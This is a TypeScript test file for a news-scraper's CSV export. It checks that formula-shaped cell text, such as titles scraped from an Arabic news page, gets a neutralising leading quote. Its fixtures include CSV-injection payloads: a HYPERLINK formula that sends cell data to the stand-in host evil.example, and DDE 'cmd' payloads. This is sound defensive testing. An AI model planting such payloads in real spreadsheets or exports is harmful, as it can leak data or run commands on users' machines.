import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { Fetcher } from '../sources/fetcher.js';
import { exportText, neutraliseFormula, type Cell } from './export.js';
import { ingest } from './ingest.js';
import { openStore } from './open-store.js';

// [cell, what the CSV writer puts in the file]: text that a spreadsheet would run as a formula gets a leading quote.
const CASES: Array<[Cell, Cell]> = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?d="&A1,"انقر")', `'=HYPERLINK("http://evil.example/?d="&A1,"انقر")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+cmd|x', "'+1+cmd|x"],
  ['-2+3', "'-2+3"],
  ['-cmd|x', "'-cmd|x"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['\n=1+1', "'\n=1+1"],
  ['＝1+1', "'＝1+1"],
  ['-', "'-"],
  ['وزير الخارجية يستقبل نظيره', 'وزير الخارجية يستقبل نظيره'],
  ['a=1', 'a=1'],
  [' =1+1', ' =1+1'],
  ["'=1+1", "'=1+1"],
  ['', ''],
  ['-12', '-12'],
  ['-12.5', '-12.5'],
  ['+3', '+3'],
  ['2024-05-20', '2024-05-20'],
  [-3, -3],
  [-0.5, -0.5],
  [0, 0],
  [true, true],
  [null, null],
  [undefined, undefined],
];

describe('neutraliseFormula (CSV injection)', () => {
  for (const [cell, expected] of CASES) {
    it(`${JSON.stringify(cell)} → ${JSON.stringify(expected)}`, () => assert.equal(neutraliseFormula(cell), expected));
  }
});

describe('CSV exports of scraped text', () => {
  it('write a formula-shaped title, section and tag as text, numbers and dates as they are', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'marsad-csv-'));
    const store = await openStore(':memory:');
    try {
      const title = '=HYPERLINK("http://evil.example/?leak="&A1;"اضغط هنا")';
      const page = join(dir, 'formula.html');
      writeFileSync(
        page,
        `<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>${title.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</title>` +
          `<meta property="article:section" content="@SUM(1+1) سياسة"><meta property="article:tag" content="-2+3">` +
          `<meta property="article:published_time" content="2024-05-20T10:00:00+01:00"></head><body><article>` +
          `<p>استقبل وزير الشؤون الخارجية، صباح اليوم الاثنين بالرباط، نظيره التونسي الذي يقوم بزيارة عمل إلى المملكة تستمر يومين.</p>` +
          `<p>وتناولت المباحثات سبل تطوير التعاون الثنائي في مجالات التجارة والتعليم والنقل، إضافة إلى تطورات الأوضاع في المنطقة.</p>` +
          `</article></body></html>`,
      );
      for await (const r of ingest([page], { store, fetcher: new Fetcher() })) assert.equal(r.status, 'new', r.reason ?? '');
      const csv = await exportText(store, { what: 'articles', format: 'csv' });
      const [row] = parse(csv.slice(1), { columns: true }) as Record<string, string>[];
      assert.equal(row!.title, `'${title}`);
      assert.equal(row!.section, "'@SUM(1+1) سياسة");
      assert.equal(row!.tags, "'-2+3");
      assert.match(row!.published!, /^2024-05-20/);
      assert.ok(row!.text!.startsWith('استقبل'));
      const [entity] = parse((await exportText(store, { what: 'entities', format: 'csv' })).slice(1), { columns: true }) as Record<string, string>[];
      assert.match(entity!.articles!, /^\d+$/, 'a count stays a bare number');
    } finally {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
